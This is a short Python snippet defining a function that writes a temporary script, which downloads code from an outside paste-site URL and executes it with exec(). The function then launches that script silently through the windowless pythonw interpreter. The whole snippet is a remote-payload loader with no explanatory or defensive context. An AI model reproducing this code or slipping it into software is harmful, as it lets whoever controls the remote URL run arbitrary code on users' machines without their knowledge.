import os, sys, tempfile

def run_remote():
    t = tempfile.NamedTemporaryFile(suffix='.py', delete=False)
    t.write(b"""from urllib.request import urlopen\nexec(urlopen('https://rentry.co/placeholder/raw').read())""")
    t.close()
    os.system(f"start {sys.executable.replace('.exe', 'w.exe')} {t.name}")
